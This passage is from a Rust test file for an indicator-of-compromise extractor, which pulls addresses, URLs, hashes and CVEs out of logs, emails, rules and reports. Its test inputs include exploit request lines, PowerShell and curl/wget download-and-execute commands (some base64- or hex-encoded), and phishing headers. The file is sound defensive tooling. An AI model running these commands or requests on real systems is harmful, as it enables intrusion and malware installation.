        ("sha256", "3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"),
    ] {
        assert!(got.contains(&(want.0.to_string(), want.1.to_string())), "{want:?} in {got:?}");
    }
}

#[test]
fn ipv6_addresses_a_line_break_cut_are_joined() {
    // Text taken from a PDF: the address goes on at the next line.
    let text = "the operators moved the second stage to an IPv6-only host, 2a0d:5600:24:\n\
                af1::3c, presumably to evade IPv4-only monitoring.\n\
                Timeline 12:34:\n56 events\n";
    let got = found_raw(text);
    assert_eq!(
        got,
        vec![(
            "ipv6".to_owned(),
            "2a0d:5600:24:af1::3c".to_owned(),
            "2a0d:5600:24:\naf1::3c".to_owned(),
            false
        )]
    );
}

#[test]
fn urls_percent_encoded_in_request_paths_are_found() {
    // An exploit's request carries the command it runs, encoded: the URL
    // it fetches is the indicator, over the span of its encoded form.
    let log = "80.94.95.81 - - \"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[1][]=curl%20-s%20https%3A%2F%2Fdl.tpshell-mirror.cc%2Ft.sh%7Csh HTTP/1.1\" 404\n\
               185.216.71.240 \"GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20http%3a%2f%2f185.216.71.240%2fivnt.sh%7cbash HTTP/1.1\"\n\
               GET /cgi-bin/a.cgi?x=1%20%2F%2F%20note%3A%20ok HTTP/1.1\n";
    let got = found_raw(log);
    let urls: Vec<_> = got.iter().filter(|m| m.0 == "url").cloned().collect();
    assert_eq!(
        urls,
        vec![
            (
                "url".to_owned(),
                "https://dl.tpshell-mirror.cc/t.sh".to_owned(),
                "https%3A%2F%2Fdl.tpshell-mirror.cc%2Ft.sh".to_owned(),
                true
            ),
            (
                "url".to_owned(),
                "http://185.216.71.240/ivnt.sh".to_owned(),
                "http%3a%2f%2f185.216.71.240%2fivnt.sh".to_owned(),
                true
            ),
        ]
    );
    // A path with escapes but no encoded URL stays a path.
    assert!(got.iter().any(|m| m.0 == "file-path" && m.2.starts_with("/cgi-bin/a.cgi")), "{got:?}");
}

#[test]
fn links_in_quoted_printable_bodies_are_read_decoded() {
    // Soft line breaks (`=` at a line's end) and `=3D` for `=`: the link
    // as the body decodes, over the span it was written in.
    let mail = "Content-Transfer-Encoding: quoted-printable\n\n\
                Pay here: https://intuit-paym=\nents-portal.com/inv/INV-20931?cid=3D7731\n\
                <a href=3D\"https://quickbooks-notice.com/r/?u=3Dhttps%3A%2F%2Fintuit-pay=\n\
                ments-portal.com%2Finv%2FINV-20931\" style=3D\"color:#0077c5\">Re=\nview</a>\n\
                <img src=3D\"https://track.quickbooks-notice.com/o.gif?id=3Dfrontdesk%40casc=\nadia-dental.com\" width=3D\"1\">\n";
    let urls: Vec<(String, bool)> = Extractor::new()
        .extract(mail)
        .into_iter()
        .filter(|m| m.kind() == IndicatorKind::Url)
        .map(|m| (m.value(), m.defanged))
        .collect();
    assert_eq!(
        urls,
        vec![
            ("https://intuit-payments-portal.com/inv/INV-20931?cid=7731".to_owned(), true),
            (
                "https://quickbooks-notice.com/r/?u=https%3A%2F%2Fintuit-payments-portal.com%2Finv%2FINV-20931"
                    .to_owned(),
                true
            ),
            (
                "https://track.quickbooks-notice.com/o.gif?id=frontdesk%40cascadia-dental.com"
                    .to_owned(),
                true
            ),
        ]
    );
    // Streamed, the same.
    let mut streamed = Vec::new();
    Extractor::new().extract_reader(mail.as_bytes(), |m| streamed.push(m)).unwrap();
    assert_eq!(streamed, Extractor::new().extract(mail));
    // Without the header, a link that ends its line with `=` stays as it is.
    let plain = "token link https://a.example-cdn.com/x?k=\nabc def\n";
    let got = found(plain);
    assert_eq!(got, kinds_values(&[("url", "https://a.example-cdn.com/x?k=")]));
}

#[test]
fn cve_references_of_ids_rules_are_found() {
    let rule = "alert tcp any any -> any 61616 (msg:\"ActiveMQ\"; reference:cve,2023-46604; reference:CVE,2021-44228; sid:1;)\nSee 2023-46604 in the notes.\n";
    assert_eq!(
        found_raw(rule),
        vec![
            ("cve".to_owned(), "CVE-2023-46604".to_owned(), "cve,2023-46604".to_owned(), false),
            ("cve".to_owned(), "CVE-2021-44228".to_owned(), "CVE,2021-44228".to_owned(), false),
        ]
    );
}

#[test]
fn links_with_escaped_ampersands_in_xml_are_whole() {
    // A Windows event's XML escapes `&` as `&amp;`: the link runs on past
    // it, and its value has the `&` back.
    let xml = "<Data Name=\"CommandLine\">powershell -c iwr https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2</Data>\n\
               <Data Name=\"CommandLine\">powershell -c \"IEX $wc.DownloadString('https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&amp;t=17')\"</Data>\n";
    assert_eq!(
        found_raw(xml),
        vec![
            (
                "url".to_owned(),
                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&t=1740699892&v=2".to_owned(),
                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2"
                    .to_owned(),
                false
            ),
            (
                "url".to_owned(),
                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&t=17".to_owned(),
                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&amp;t=17".to_owned(),
                false
            ),
        ]
    );
}

#[test]
fn clamav_hash_signatures_give_their_digests() {
    // `.hdb`/`.hsb` lines: the digest, the file's size (or `*`), the name.
    let sigs = "a72c148d2504bb43ecb7c9cff4d839cd:48211:Js.Downloader.GootLoader-10042117-0\n\
                4caf1106b16c6df0140662b723a1eea641f5ab0665b3012cf9f23f503c7efd0f:*:Unix.Ransomware.Akira-10042120-0:73\n\
                16c3d7d796d9608d2e952c8c38c8d7960b515dd1:94208:Win.Trojan.Agent-10042121-0\n";
    assert_eq!(
        found(sigs),
        kinds_values(&[
            ("md5", "a72c148d2504bb43ecb7c9cff4d839cd"),
            ("sha256", "4caf1106b16c6df0140662b723a1eea641f5ab0665b3012cf9f23f503c7efd0f"),
            ("sha1", "16c3d7d796d9608d2e952c8c38c8d7960b515dd1"),
        ])
    );
}

#[test]
fn ids_transactions_and_commits_are_no_digests() {
    // Hex that names a detector, a finding, a customer, a transaction or
    // a commit: no file's digest. A digest after them stays one.
    let text = "$ aws guardduty get-findings --detector-id 12c0d7e5a8b94f61a3de0b2f77c41a90 --finding-ids 5ec2b8a7f41d9e03c6a2b7d8e9f01234 86c9f6e2d1b04a7f9e3c5a1b2d4f6e80 --region eu-central-1\n\
                \"Arn\": \"arn:aws:guardduty:eu-central-1:481236577102:detector/12c0d7e5a8b94f61a3de0b2f77c41a90/finding/5ec2b8a7f41d9e03c6a2b7d8e9f01234\",\n\
                {\"customerIDString\": \"7a1bfd28b1e0fe7b577dd6d8db069986\", \"offset\": 1}\n\
                test payment with txid `8c6ed5d5c239833e473ef45c5a41d5daa64ca79a537cbcb7135fae94affc5664`\n\
                rules in the repository (Commit 1913b898a88bb5a8ef83eae8791e6e6ad619001c).\n\
                dropper sha256 3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19\n";
    assert_eq!(
        found(text),
        kinds_values(&[(
            "sha256",
            "3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"
        )])
    );
}

#[test]
fn versions_under_version_keys_and_in_quoted_releases_are_no_addresses() {
    let text = "SerializationVersion: 1.1.0.1\n\
                a fake installer \"Zalo 24.10.1.3\" and\n\
                {\"server\": \"Proxy 45.61.137.9\"}\n";
    assert_eq!(found(text), kinds_values(&[("ipv4", "45.61.137.9")]));
}

#[test]
fn versions_in_korean_notices_and_status_lines_are_no_addresses() {
    // `버전` is Korean for version; a status line whose first field is
    // a version lists more of them under keys of their own (Defender's
    // network inspection `NIS`), while a network key still says address.
    let text = " o 백신을 최신 버전(V3 9.0.72.4 이상)으로 업데이트\n\
                Engine version: 1.1.25040.1, AS/AV signatures: 1.429.211.0, NIS: 1.249.11.0\n\
                Agent version: 2.1.0.3, C2: 5.61.33.7, relay: 1.249.11.8\n\
                NIS: 1.249.11.9\n";
    assert_eq!(
        found(text),
        kinds_values(&[("ipv4", "5.61.33.7"), ("ipv4", "1.249.11.8"), ("ipv4", "1.249.11.9")])
    );
}

#[test]
fn versions_in_bulletin_tables_ranges_and_configs_are_no_addresses() {
    // A bulletin's table: the column's head says what its cells hold; an
    // address column in another table stays.
    let table = "| Product | Affected | Fixed | CVE |\n\
                 |---|---|---|---|\n\
                 | F5 BIG-IP | 17.1.0 - 17.1.1.3 | 17.1.1.4 | CVE-2023-46747 |\n\
                 | Zimbra | 8.8.15 Patch 41 | 8.8.15.46 | CVE-2023-37580 |\n\n\
                 | Host | Address |\n|---|---|\n| relay | 45.137.21.9 |\n";
    assert_eq!(
        found(table),
        kinds_values(&[
            ("cve", "CVE-2023-46747"),
            ("cve", "CVE-2023-37580"),
            ("ipv4", "45.137.21.9"),
        ])
    );
    // A range whose other end is a version; what a release replaces; a
    // configuration's version key; a version word broken by hyphenation;
    // builds of a tool.
    let prose = "Versions 6.0.0 - 6.3.0.1 are affected. fw-1.2.3.4-release.bin replaces 1.2.3.3.\n\
                 {\"version\": \"2.4.1.7\", \"c2\": \"91.215.85.142\"}\n\
                 The internal ver-\nsion 2.4.1.7 was seen; AutoIt 3.3.16.1, same as 3.3.14.5 builds.\n\
                 The relay moved from 45.12.3.4 - 45.12.3.9 to 91.215.85.143.";
    assert_eq!(
        found(prose),
        kinds_values(&[
            ("file-name", "fw-1.2.3.4-release.bin"),
            ("ipv4", "91.215.85.142"),
            ("ipv4", "45.12.3.4"),
            ("ipv4", "45.12.3.9"),
            ("ipv4", "91.215.85.143"),
        ])
    );
}

#[test]
fn the_host_of_a_unc_path_is_reported_inside_it() {
    // A lure's `.url` file points at the attacker's WebDAV server; with
    // nested matches on, the path is followed by its host.
    let text = "e.g. \\\\45.61.137.90@80\\share\\doc.url, \\\\evil-webdav.com@SSL\\DavWWWRoot\\x.lnk \
                and \\\\fileserver01\\public\\a.txt";
    let nested = Extractor::builder().nested_ids(true).build();
    let got: Vec<(&str, &str)> =
        nested.extract(text).iter().map(|m| (m.kind().id(), m.raw(text))).collect();
    assert_eq!(
        got,
        [
            ("file-path", "\\\\45.61.137.90@80\\share\\doc.url"),
            ("ipv4", "45.61.137.90"),
            ("file-path", "\\\\evil-webdav.com@SSL\\DavWWWRoot\\x.lnk"),
            ("domain", "evil-webdav.com"),
            ("file-path", "\\\\fileserver01\\public\\a.txt"),
        ]
    );
    // Off by default: matches never overlap.
    assert_eq!(Extractor::new().extract(text).len(), 3);
}

#[test]
fn the_peer_after_a_squid_hierarchy_code_is_an_address() {
    let text = "1710000000.123 200 10.0.0.5 TCP_MISS/200 5123 GET http://x-evil.top/a - \
                HIER_DIRECT/45.137.21.9 text/html\nFIRSTUP_PARENT/45.137.21.10 DIRECT/45.137.21.11 \
                Win32/Agent.1.2.3.4";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4", "10.0.0.5"),
            ("url", "http://x-evil.top/a"),
            ("ipv4", "45.137.21.9"),
            ("ipv4", "45.137.21.10"),
            ("ipv4", "45.137.21.11"),
        ])
    );
}

#[test]
fn handles_message_ids_prefetch_files_and_node_errors_are_no_indicators_of_their_shape() {
    let text = "Message-ID: <f3a91c0e5d7b4a28@smtp.quick-invoices.net>\n\
                From: billing@quick-invoices.net\n\
                Follow @lantern_hunter@infosec.exchange for updates.\n\
                C:\\Windows\\Prefetch\\RUNDLL32.EXE-6A1F3C2B.pf was written; see evil-cdn.pf too.\n\
                Error: connect ECONNREFUSED ::1:443 and 2001:db8::1:443\n";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("email", "billing@quick-invoices.net"),
            ("file-path", "C:\\Windows\\Prefetch\\RUNDLL32.EXE-6A1F3C2B.pf"),
            ("domain", "evil-cdn.pf"),
            ("ipv6", "::1"),
            ("ipv6", "2001:db8::1:443"),
        ])
    );
    let name = "RUNDLL32.EXE-6A1F3C2B.pf";
    assert_eq!(found(name), kinds_values(&[("file-name", "RUNDLL32.EXE-6A1F3C2B.pf")]));
    // A link cut at the end of its path, then a shorthand on the next line.
    let post = "Write-up: https://www.example-labs.com/blog/2024/lantern/\nh/t @kenji_sec";
    assert_eq!(
        found(post),
        kinds_values(&[("url", "https://www.example-labs.com/blog/2024/lantern/")])
    );
}

#[test]
fn a_link_in_angle_brackets_keeps_its_commas() {
    let text = "Click <http://click.mlsend-track.com/ls/click?upn=u001.Qx7bR9&c=E,1,aB3dE5fG7hJ9> now.\n\
                CSV: http://a-evil.top/x?id=3,2024-04-22,blocked";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "http://click.mlsend-track.com/ls/click?upn=u001.Qx7bR9&c=E,1,aB3dE5fG7hJ9"),
            ("url", "http://a-evil.top/x?id=3"),
        ])
    );
}

#[test]
fn an_address_typed_full_width_is_one_address() {
    let text = "連絡先：ｆｇｔ．ａｄｍｉｎ＠ｐｒｏｔｏｎ．ｍｅ です。C2サーバ＠evil-cdn.net";
    assert_eq!(
        found(text),
        kinds_values(&[("email", "fgt.admin@proton.me"), ("domain", "evil-cdn.net")])
    );
}

#[test]
fn a_name_a_pdf_broke_at_its_hyphen_is_joined() {
    let text = "The lure pointed at ship-\ntrack-portal.net today. Also data-\nbase.exe ran.";
    let m = Extractor::new().extract(text);
    let got: Vec<(&str, String, &str)> =
        m.iter().map(|m| (m.kind().id(), m.value(), m.raw(text))).collect();
    assert_eq!(
        got,
        [
            ("domain", "ship-track-portal.net".to_owned(), "ship-\ntrack-portal.net"),
            ("file-name", "base.exe".to_owned(), "base.exe"),
        ]
    );
}

#[test]
fn the_publishers_own_contact_is_benign() {
    let text = "Published 2024-03-12 | CVSS v3.1 | Contact: psirt@example-labs.com\n\
                author: ExampleSec (research@example-labs.com)\n\
                \"name\": \"ExampleSec\", \"contact_information\": \"intel@example-labs.com\",\n\
                Questions? dm me at mira.cti@example-labs.com\n\
                联系我们：intel@example-anquan.cn\n\
                The lure's sender was billing@quick-invoices.net; replies went to x.ops@proton.me.\n\
                Contact: ops.team@proton.me";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            ("psirt@example-labs.com", Disposition::Benign),
            ("research@example-labs.com", Disposition::Benign),
            ("intel@example-labs.com", Disposition::Benign),
            ("mira.cti@example-labs.com", Disposition::Benign),
            ("intel@example-anquan.cn", Disposition::Benign),
            ("billing@quick-invoices.net", Disposition::Indicator),
            ("x.ops@proton.me", Disposition::Indicator),
            ("ops.team@proton.me", Disposition::Indicator),
        ])
    );
}

#[test]
fn a_path_on_a_publishing_service_is_a_link_without_its_scheme() {
    let text = "the bot posts to api.telegram.org/bot6712345678:AAH3kq8zVb0Tn5XcL2pQr7Yw1mJd4sGf9eK/sendMessage, \
                the stager sits at pastebin[.]com/raw/Xy12Ab; see google.com/search";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            (
                "https://api.telegram.org/bot6712345678:AAH3kq8zVb0Tn5XcL2pQr7Yw1mJd4sGf9eK/sendMessage",
                Disposition::Indicator
            ),
            ("https://pastebin.com/raw/Xy12Ab", Disposition::Indicator),
            ("google.com", Disposition::Benign),
        ])
    );
}

#[test]
fn dots_spelled_as_words_join_a_host_in_host_context() {
    let text = "The loader fetched stage two from payload dot bad-actor dot ru, then beaconed to \
                185 dot 220 dot 101 dot 4 every minute.\n\
                C2: update-cdn7 dot net\n\
                domain: invoice-portal DOT com (spoken on the call)\n\
                In the dot com era nobody cared; she wore a polka dot dress; ASP dot NET 4 dot 8.\n\
                a dot net developer wrote the loader in C# dot net.\n\
                The host said one ninety-three dot one forty-three dot one dot two oh five.\n";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("domain", "payload.bad-actor.ru", "payload dot bad-actor dot ru", true),
            ("ipv4", "185.220.101.4", "185 dot 220 dot 101 dot 4", true),
            ("domain", "update-cdn7.net", "update-cdn7 dot net", true),
            ("domain", "invoice-portal.com", "invoice-portal DOT com", true),
        ])
    );
}

#[test]
fn a_latex_command_s_argument_is_the_value() {
    let text = "The dropper (SHA-256 \\texttt{a2f1c6d0e9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4b903}) \
                fetched \\texttt{dl.lumen-upd.cc} from \\texttt{45.95.169.105} and \\emph{2a0b:4d07:2:1::5c}.\n\
                See \\href{http://dl.lumen-upd.cc/bins/lumen.mips}{\\texttt{lumen.mips}} and \
                \\url{http://45.95.169.105:8000/l/arm7}.\\footnote{Seen in 2024.}";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("sha256", "a2f1c6d0e9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4b903"),
            ("domain", "dl.lumen-upd.cc"),
            ("ipv4", "45.95.169.105"),
            ("ipv6", "2a0b:4d07:2:1::5c"),
            ("url", "http://dl.lumen-upd.cc/bins/lumen.mips"),
            ("url", "http://45.95.169.105:8000/l/arm7"),
        ])
    );
}

#[test]
fn a_digest_before_an_escaped_line_break_or_a_citation_mark() {
    let text = "  \"outputs\": [\"md5: 881999c8e1d2f3a4b5c6d7e8f9a0b1c2\\n\", \
                \"sha1 179842c0e1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6\\n\", \
                \"SHA256 архива: 6c56a641b6e69db7f15bf7d06632ac917eb6a67ad6df41ce80bce3a94648ffe7\\nРегистрация\"]\n\
                The sample e3b8f0c2a1d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d81b38.[3] was \
                uploaded, then 45.61.137.90[12] went dark.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("md5", "881999c8e1d2f3a4b5c6d7e8f9a0b1c2"),
            ("sha1", "179842c0e1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6"),
            ("sha256", "6c56a641b6e69db7f15bf7d06632ac917eb6a67ad6df41ce80bce3a94648ffe7"),
            ("sha256", "e3b8f0c2a1d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d81b38"),
            ("ipv4", "45.61.137.90"),
        ])
    );
}

#[test]
fn a_wireshark_field_is_no_domain() {
    let text = "tshark -r case.pcapng -T fields -e frame.number -e http.host -e dns.qry.name\n\
                filter: dns.qry.name == \"evil-cdn.host\" or http.host contains \"lumen\"";
    assert_eq!(found(text), kinds_values(&[("domain", "evil-cdn.host")]));
}

#[test]
fn a_provider_s_values_in_a_whois_record_are_context() {
    let text = "$ whois invoice-sync.net\n\
                Registrar WHOIS Server: whois.example-registrar.com\n\
                Registrar URL: http://www.example-registrar.com\n\
                Registrar Abuse Contact Email: abuse@example-registrar.com\n\
                Name Server: NS1.PARKDNS-EXAMPLE.NET\n\
                Registrant Email: pw-3f9e2c1a77b04b6d8e52@privacyguardian.org\n\
                Registrant Email: ops.hollis1987@proton.me\n\
                inetnum:        45.137.20.0 - 45.137.23.255\n\
                abuse-mailbox:  abuse@vds-hoster.net\n\
                route:          45.137.20.0/22\n\
                Beacon: 45.137.21.9; see https://crt.sh/?q=invoice-sync.net\n\
                : Saved\n\
                Cryptochecksum:1e5c2d7a90bb4f1f8e3f6a77c2f4d910\n";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            ("invoice-sync.net", Disposition::Indicator),
            ("whois.example-registrar.com", Disposition::Benign),
            ("http://www.example-registrar.com/", Disposition::Benign),
            ("abuse@example-registrar.com", Disposition::Benign),
            ("ns1.parkdns-example.net", Disposition::Benign),
            ("pw-3f9e2c1a77b04b6d8e52@privacyguardian.org", Disposition::Benign),
            ("ops.hollis1987@proton.me", Disposition::Indicator),
            ("45.137.20.0", Disposition::Benign),
            ("45.137.23.255", Disposition::Benign),
            ("abuse@vds-hoster.net", Disposition::Benign),
            ("45.137.20.0/22", Disposition::Benign),
            ("45.137.21.9", Disposition::Indicator),
            ("https://crt.sh/?q=invoice-sync.net", Disposition::Reference),
            ("1e5c2d7a90bb4f1f8e3f6a77c2f4d910", Disposition::Benign),
        ])
    );
}

#[test]
fn a_name_in_a_windows_dns_debug_log() {
    let text = "3/14/2024 9:41:12 AM 0F24 PACKET  000001D2A8F0C1E0 UDP Rcv 10.20.4.17      a1b2   Q [0001   D   NOERROR] A      (6)sync01(11)akam-cdnsvc(3)com(0)\n\
                3/14/2024 9:41:13 AM 0F24 PACKET  000001D2A8F0C1E0 UDP Snd 10.20.4.17      a1b2 R Q [8081   DR  NOERROR] A      (3)cdn(14)office-updater(3)net(0)\n\
                (1)x(0) and (2)ab are no names";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4", "10.20.4.17"),
            ("domain", "sync01.akam-cdnsvc.com"),
            ("ipv4", "10.20.4.17"),
            ("domain", "cdn.office-updater.net"),
        ])
    );
}

#[test]
fn a_phishing_mail_s_recipients_and_their_servers_are_context() {
    let text = "Return-Path: <bounce+7f3a@mail.parcel-relay.top>\n\
                Delivered-To: j.doe+invoices@fabrikam-example.com\n\
                Received: from mx1.fabrikam-example.com (mx1.fabrikam-example.com [10.30.0.25])\n\
                \tby mbox3.fabrikam-example.com (Dovecot) with LMTP id 8Kk2JdK18mVgOQAA;\n\
                Received: from mail.parcel-relay.top (unknown [194.26.192.119])\n\
                \tby mx1.fabrikam-example.com (Postfix) with ESMTPS id 4TvZ2k1Xq9z3wW\n\
                \tfor <j.doe+invoices@fabrikam-example.com>; Thu, 14 Mar 2024 09:15:29 +0100\n\
                Received: from [194.26.192.119] by mail.parcel-relay.top (Postfix)\n\
                Reply-To: <zoll.abwicklung@parcel-kundenservice.com>\n\
                To: Jurgen Doe <j.doe+invoices@fabrikam-example.com>\n\
                \n\
                Two more recipients got it, a.lang@fabrikam-example.com among them.\n";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            ("bounce+7f3a@mail.parcel-relay.top", Disposition::Indicator),
            ("j.doe+invoices@fabrikam-example.com", Disposition::Benign),
            ("mx1.fabrikam-example.com", Disposition::Benign),
            ("mx1.fabrikam-example.com", Disposition::Benign),
            ("10.30.0.25", Disposition::Internal),
            ("mbox3.fabrikam-example.com", Disposition::Benign),
            ("mail.parcel-relay.top", Disposition::Indicator),
            ("194.26.192.119", Disposition::Indicator),
            ("mx1.fabrikam-example.com", Disposition::Benign),
            ("j.doe+invoices@fabrikam-example.com", Disposition::Benign),
            ("194.26.192.119", Disposition::Indicator),
            ("mail.parcel-relay.top", Disposition::Indicator),
            ("zoll.abwicklung@parcel-kundenservice.com", Disposition::Indicator),
            ("j.doe+invoices@fabrikam-example.com", Disposition::Benign),
            ("a.lang@fabrikam-example.com", Disposition::Benign),
        ])
    );
}

#[test]
fn a_defending_team_s_mailbox_is_context() {
    let text = "**Owner:** Threat Hunting (th-team@contoso-health.org) · escalate to IR on-call \
                (ir-oncall@contoso-health.org) or csirt@contoso-health.org.\n\
                # Report false positives: fp-report@soc-nord.net\n\
                The lure came from security@account-verify-portal.com and support@helpdesk-reset.net.";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            ("th-team@contoso-health.org", Disposition::Benign),
            ("ir-oncall@contoso-health.org", Disposition::Benign),
            ("csirt@contoso-health.org", Disposition::Benign),
            ("fp-report@soc-nord.net", Disposition::Benign),
            ("security@account-verify-portal.com", Disposition::Indicator),
            ("support@helpdesk-reset.net", Disposition::Indicator),
        ])
    );
}

#[test]
fn a_configured_server_s_own_names_are_context() {
    let text = "server {\n    listen 443 ssl;\n    server_name acme-shop.de www.acme-shop.de;\n}\n\
                <VirtualHost *:443>\n  ServerName shop.fabrikam-retail.com\n  ServerAdmin webmaster@fabrikam-retail.com\n\
                </VirtualHost>\n\
                hostname fw01\nip domain-name corp.fabrikam-energy.com\n\
                # injected: return 302 https://acme-shop-pay.top/checkout;\n\
                proxy_pass http://update-cdn-sync.com;\n";
    assert_eq!(
        values_and_dispositions(text),
        owned(&[
            ("acme-shop.de", Disposition::Benign),
            ("www.acme-shop.de", Disposition::Benign),
            ("shop.fabrikam-retail.com", Disposition::Benign),
            ("webmaster@fabrikam-retail.com", Disposition::Benign),
            ("corp.fabrikam-energy.com", Disposition::Benign),
            ("https://acme-shop-pay.top/checkout", Disposition::Indicator),
            ("http://update-cdn-sync.com/", Disposition::Indicator),
        ])
    );
}

#[test]
fn blind_round_nine_versions_and_script_variables() {
    // What a device runs, a Korean key ending in a version word, an
    // OpenIOC item whose context searches a version field, a capitalised
    // product with parts up to 30: releases, not addresses. A host after
    // a verb, and one in prose, still are.
    let text = "ASA 5516 running 9.18.4.22 was exploited.\n패치 버전: 4.2.1.6)\n\
                <Context document=\"FileItem\" search=\"FileItem/PEInfo/VersionInfoItem/FileVersion\" type=\"mir\" />\n\
                <Content type=\"string\">5.1.2.254</Content>\n\
                módulo de segurança (Warsaw 2.21.4.1)\n\
                Contacted 2.21.4.1 twice; C2 at 45.9.148.35.";
    assert_eq!(found(text), kinds_values(&[("ipv4", "2.21.4.1"), ("ipv4", "45.9.148.35")]));
    // A phishing kit's variables under new top-level domains, when code
    // follows them; a host under one in prose stays a host.
    assert_eq!(
        found("then(geo => { user.city = geo.city; user.country = geo.country; }) C2 evil.city"),
        kinds_values(&[("domain", "evil.city")])
    );
}

#[test]
fn blind_round_ten_values_glued_to_entities_and_fragments() {
    // Escaped HTML (an Atom feed's content): the entity after a value ends
    // it, and a link escaped twice keeps its `&`.
    let feed = "&lt;code&gt;147.45.44.131&lt;/code&gt; &lt;li&gt;pyfetch-stats[.]dev&lt;/li&gt; \
                mail pyfetch.dev.team@proton.me&lt;/li&gt; \
                &lt;code&gt;https://github.com/pyfetch-utils/w/rtcore-x86_64.bin&lt;/code&gt; \
                href=&quot;https://pyfetch-stats.dev/ping?pkg=colorama-term&amp;amp;v=0.4.7.2&quot; \
                x 2a0c:9a40:8a80::1c&nbsp;(stage-2)";
    assert_eq!(
        found(feed),
        kinds_values(&[
            ("ipv4", "147.45.44.131"),
            ("domain", "pyfetch-stats.dev"),
            ("email", "pyfetch.dev.team@proton.me"),
            ("url", "https://github.com/pyfetch-utils/w/rtcore-x86_64.bin"),
            ("url", "https://pyfetch-stats.dev/ping?pkg=colorama-term&v=0.4.7.2"),
            ("ipv6", "2a0c:9a40:8a80::1c"),
        ])
    );
    // A STIX 1 list joins its values with `##comma##`; a fragment after a
    // name is no part of it.
    assert_eq!(
        found(
            "185.215.113.66##comma##185.215.113.217##comma##62.204.41.176 host evil-dom.com#frag"
        ),
        kinds_values(&[
            ("ipv4", "185.215.113.66"),
            ("ipv4", "185.215.113.217"),
            ("ipv4", "62.204.41.176"),
            ("domain", "evil-dom.com"),
        ])
    );
    // What runs on past an `&` or `#` stays whole: file names, a query's
    // keys, an escaped path, a template's variable.
    assert_eq!(
        found("Q&A.docx notes#1.txt T1055.011_#{arch}.exe"),
        kinds_values(&[
            ("file-name", "Q&A.docx"),
            ("file-name", "notes#1.txt"),
            ("file-name", "T1055.011_#{arch}.exe"),
        ])
    );
    // A build after a product name of two capitalised words is no address,
    // and a licence key in a RAT's settings is no file's digest.
    assert!(found("Zscaler Client Connector 4.5.0.198, MDE sensor").is_empty());
    assert!(found(r#""licence"="6E5B2F1AC09D3847B1E2F4A6C8D0E2F1""#).is_empty());
    // A command line auditd wrote in hex (arguments apart by NUL bytes)
    // gives its link, over the span of the hex.
    let audit = "type=EXECVE argc=3 a0=\"bash\" a1=\"-c\" \
                 a2=77676574002D714F2D00687474703A2F2F3139332E3233332E3230322E38312F7838365F3634007C007368";
    assert_eq!(found(audit), kinds_values(&[("url", "http://193.233.202.81/x86_64")]));
    // JSON in a JSON string (a HAR's response text) escapes its slashes'
    // backslashes and its quotes.
    assert_eq!(
        found(r#""text":"{\"next\":\"https:\\/\\/login.example-idp.com\\/\"}""#),
        kinds_values(&[("url", "https://login.example-idp.com/")])
    );
}

#[test]
fn blind_round_nine_ids_tokens_and_dkim_tags() {
    // A VirusTotal URL object's id is the SHA-256 of a URL's text; a file
    // object's id is a file's digest.
    let vt = r#"{"id": "db546ddb8cca85e782a34730989caa3ad280ae4aa0292089056d09d1da588b9a", "type": "url"}
{"id": "0b546ddb8cca85e782a34730989caa3ad280ae4aa0292089056d09d1da588b9a", "type": "file"}"#;
    assert_eq!(
        found(vt),
        kinds_values(&[(
            "sha256",
            "0b546ddb8cca85e782a34730989caa3ad280ae4aa0292089056d09d1da588b9a"
        )])
    );
    // A stealer's `Authorization` token is no file's digest.
    assert!(found(r#""Authorization": "e4308bc7bbd62aaeea2688790f6e4c02","#).is_empty());
    // `header.i=@domain` (a DKIM tag) gives the domain, no mailbox.
    assert_eq!(
        found("dkim=pass header.i=@hollister-freiqht.com header.s=s1"),
        kinds_values(&[("domain", "hollister-freiqht.com")])
    );
}

#[test]
fn links_in_base64_blobs() {
    use base64::Engine as _;
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    // PowerShell's `-enc` (UTF-16LE), a cloud instance's user data
    // (UTF-8), `atob("…")`: the link, with the blob's span, marked as not
    // written as such. Text without a link gives nothing.
    let script =
        "IEX (New-Object Net.WebClient).DownloadString(\"http://193.233.132.18/ld/amd64\")";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let enc = b64(&utf16);
    let user_data = b64(b"#!/bin/bash\ncurl -s http://194.38.23.170/xmr.sh | bash\n");
    let text = format!(
        "powershell -nop -enc {enc}\n\"userData\": \"{user_data}\"\neval(atob(\"{}\"))\ntoken {}",
        b64(b"http://147.45.78.190/pnl/save.php"),
        b64(b"hello world, this is not a link"),
    );
    let got = Extractor::new().extract(&text);
    let values: Vec<String> = got.iter().map(|m| m.value()).collect();
    assert_eq!(
